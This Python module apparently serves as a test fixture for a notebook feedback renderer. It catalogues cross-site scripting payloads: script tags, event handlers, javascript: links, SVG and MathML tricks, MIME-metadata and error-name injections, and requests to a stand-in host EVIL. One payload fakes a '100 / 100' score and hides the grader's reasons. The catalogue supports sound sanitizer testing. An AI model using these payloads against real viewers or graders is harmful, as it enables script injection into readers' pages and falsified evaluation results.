"""What a notebook may show to run something in the page of whoever reads its feedback."""

# Payloads stand here as they are.
# ruff: noqa: E501

#: Code of an own cell, by what it tries.
PAYLOADS: dict[str, str] = {
    "script": "HTML('<script>EVIL</script>')",
    "handlers": "HTML('<img src=x onerror=EVIL><body onload=EVIL><details ontoggle=EVIL open>')",
    "frames": "HTML('<iframe srcdoc=\"<script>EVIL</script>\"></iframe><object data=EVIL></object>')",
    "forms": "HTML('<form action=http://EVIL><button formaction=javascript:EVIL>x</button></form>')",
    "links": 'HTML(\'<a href="java\\tscript:EVIL">x</a><a href="&#106;avascript:EVIL">y</a>\')',
    "data links": "HTML('<a href=\"data:text/html,<script>EVIL</script>\">x</a>')",
    "styles": "HTML('<style>@import url(http://EVIL)</style><p style=\"background:url(http://EVIL)\">')",
    "meta": "HTML('<meta http-equiv=refresh content=\"0;url=http://EVIL\"><base href=http://EVIL>')",
    "comments": "HTML('<!--><script>EVIL</script>--><![CDATA[<script>EVIL</script>]]>')",
    "raw text": "HTML('<title></title><script>EVIL</script><noscript><p title=\"</noscript><img"
    " src=x onerror=EVIL>\">')",
    "templates": "HTML('<template><script>EVIL</script></template><xmp><script>EVIL</script></xmp>')",
    "mathematics": "HTML('<math><mtext><table><mglyph><style><img src=x onerror=EVIL>')",
    "drawings": 'SVG(\'<svg xmlns="http://www.w3.org/2000/svg" onload="EVIL"><script>EVIL</script>'
    '<a href="javascript:EVIL"><text>x</text></a><foreignObject><iframe src=EVIL/>'
    "</foreignObject></svg>')",
    "animated drawings": 'SVG(\'<svg xmlns="http://www.w3.org/2000/svg"><a><animate'
    " attributeName=href values=javascript:EVIL /><text>x</text></a></svg>')",
    "borrowed drawings": 'SVG(\'<svg xmlns="http://www.w3.org/2000/svg"'
    ' xmlns:xlink="http://www.w3.org/1999/xlink"><use xlink:href="http://EVIL/x.svg#x"/>'
    '<image href="http://EVIL/x.png"/></svg>\')',
    "JavaScript": "Javascript('EVIL')",
    "Markdown": "Markdown('[x](javascript:EVIL) ![x](http://EVIL/x.png) <script>EVIL</script>')",
    "LaTeX": "Latex(r'$\\href{javascript:EVIL}{x} \\unicode{<script>EVIL</script>}$')",
    "a picture's text": "raw({'image/png': '\\\"><script>EVIL</script>'})",
    "a picture's kind": "raw({'image/png\\\"><script>EVIL</script>': 'x'})",
    "a picture's width": "raw({'image/png': 'AAAA'}, {'image/png': {'width': '\\\" onload=\\\"EVIL'}})",
    "an isolated page": "raw({'text/html': '<script>EVIL</script>'}, {'text/html': {'isolated': True}})",
    "other kinds": "raw({'application/javascript': 'EVIL', 'application/pdf': 'EVIL',"
    " 'application/vnd.jupyter.widget-view+json': {'model_id': 'EVIL'}})",
    "a stream": "print('</pre><script>EVIL</script><img src=x onerror=EVIL>')",
    "colours": "print('\\x1b[31m</span><script>EVIL</script>\\x1b]8;;javascript:EVIL\\x07x')",
    "an error's name": "boom(type('<img src=x onerror=EVIL>', (Exception,), {})('<script>EVIL'))",
    "an error's traceback": "boom(type('E', (Exception,), {'_render_traceback_':"
    " lambda self: ['<script>EVIL</script>', '\\x1b[0m<img src=x onerror=EVIL>']})())",
    "a plain value": "type('V', (), {'__repr__': lambda self: '<script>EVIL</script>'})()",
    "a closed frame": "HTML('</div></div></main></body></html><script>EVIL</script><body>')",
    "a false score": "HTML('<h1>Score: 100 / 100</h1><style>.reason{display:none}</style>')",
}

HEAD = (
    "from IPython.display import HTML, SVG, Javascript, Latex, Markdown, display\n"
    "def raw(data, metadata=None):\n    display(data, raw=True, metadata=metadata or {})\n"
    "def boom(error):\n    raise error\n"
)
